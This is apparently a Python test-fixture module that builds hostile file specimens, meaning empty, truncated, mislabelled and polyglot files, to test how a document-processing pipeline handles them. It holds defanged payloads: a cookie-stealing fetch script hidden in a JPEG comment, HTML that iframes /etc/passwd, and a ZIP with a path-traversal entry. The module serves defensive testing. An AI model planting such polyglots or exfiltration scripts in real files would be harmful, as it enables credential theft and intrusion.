"""A01 to A03: empty, truncated and random files; files with a false type; files that are two types at once."""

import io
import random
import zipfile

from tests.support.hostile.pdf import TEXT_CONTENT, one_page
from tests.support.hostile.small_images import jpeg, png, png_chunk, tiff
from tests.support.hostile.specimen import DAMAGED_FILE_ENDS, PAGES, Specimen, allowed_ends

KILOBYTE = 1024
HTML = b"<!doctype html><script src='//127.0.0.1:9/x.js'></script><iframe src='file:///etc/passwd'></iframe>"


def noise(size: int, *, head: bytes = b"", seed: int = 1) -> bytes:
    """Return random bytes after a signature."""
    return head + random.Random(seed).randbytes(size)  # noqa: S311 - noise that is the same every time


def jar_archive() -> bytes:
    """Build a small ZIP that claims to be a Java archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        packed.writestr("../../evil.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def pdf_and_zip() -> bytes:
    """Build a PDF followed by an archive, so that both kinds of parser accept it."""
    return one_page() + jar_archive()


def pdf_and_html() -> bytes:
    """Build an HTML page with a PDF in a comment, its header within the first thousand bytes."""
    return HTML + b"<!--\n" + one_page() + b"-->"


def jpeg_and_script() -> bytes:
    """Build a JPEG whose comment segment is a script."""
    script = b"*/=1;fetch('//127.0.0.1:9/'+document.cookie)/*"
    picture = jpeg()
    return picture[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2) + script + picture[2:]


def png_and_zip() -> bytes:
    """Build a PNG with an HTML text chunk and an archive after its end."""
    picture = png()
    return picture[:33] + png_chunk(b"tEXt", b"Comment\0" + HTML) + picture[33:] + jar_archive()


def truncated(data: bytes) -> bytes:
    """Return the first half of a file."""
    return data[: len(data) // 2]


SPECIMENS = (
    Specimen("A01", "empty", "empty.pdf", lambda: b"", allowed_ends("empty"), first=True),
    Specimen("A01", "one-byte", "byte.pdf", lambda: b"%", allowed_ends("corrupt")),
    Specimen("A01", "header-alone", "header.pdf", lambda: b"%PDF-1.7\n", allowed_ends("corrupt", "empty")),
    Specimen(
        "A01", "half-a-pdf", "half.pdf", lambda: truncated(one_page(TEXT_CONTENT * 50)), DAMAGED_FILE_ENDS, first=True
    ),
    Specimen("A01", "no-trailer", "cut.pdf", lambda: one_page().partition(b"xref\n")[0], allowed_ends(PAGES)),
    Specimen("A01", "half-a-png", "half.png", lambda: truncated(png()), allowed_ends("corrupt")),
    Specimen("A01", "half-a-jpeg", "half.jpg", lambda: truncated(jpeg()), allowed_ends("corrupt")),
    Specimen("A01", "half-a-tiff", "half.tif", lambda: truncated(tiff()), allowed_ends("corrupt")),
    Specimen("A01", "noise", "noise.pdf", lambda: noise(64 * KILOBYTE), allowed_ends("corrupt")),
    Specimen(
        "A01",
        "pdf-noise",
        "noise.pdf",
        lambda: noise(64 * KILOBYTE, head=b"%PDF-1.4\n"),
        allowed_ends("corrupt", "empty"),
    ),
    Specimen("A01", "png-noise", "a.png", lambda: noise(9999, head=b"\x89PNG\r\n\x1a\n"), allowed_ends("corrupt")),
    Specimen("A01", "jpeg-noise", "a.jpg", lambda: noise(9999, head=b"\xff\xd8\xff\xe0"), allowed_ends("corrupt")),
    Specimen("A01", "tiff-noise", "a.tif", lambda: noise(9999, head=b"II*\0\x08\0\0\0"), allowed_ends("corrupt")),
    Specimen("A02", "png-called-pdf", "scan.pdf", png, allowed_ends(PAGES)),
    Specimen("A02", "pdf-called-jpg", "photo.jpg", one_page, allowed_ends(PAGES), first=True),
    Specimen("A02", "html-called-jpg", "photo.jpg", lambda: HTML, allowed_ends("empty"), first=True),
    Specimen("A02", "program-called-pdf", "run.pdf", lambda: b"\x7fELF" + bytes(999), allowed_ends("unsupported")),
    Specimen("A03", "pdf-and-zip", "both.pdf", pdf_and_zip, allowed_ends(PAGES), first=True),
    Specimen("A03", "pdf-and-html", "both.pdf", pdf_and_html, allowed_ends(PAGES, "corrupt")),
    Specimen("A03", "jpeg-and-script", "both.jpg", jpeg_and_script, allowed_ends(PAGES)),
    Specimen("A03", "png-and-zip", "both.png", png_and_zip, allowed_ends(PAGES)),
    Specimen("A03", "gifar", "both.gif", lambda: b"GIF89a\1\0\1\0\0\0\0;" + jar_archive(), allowed_ends("corrupt")),
)
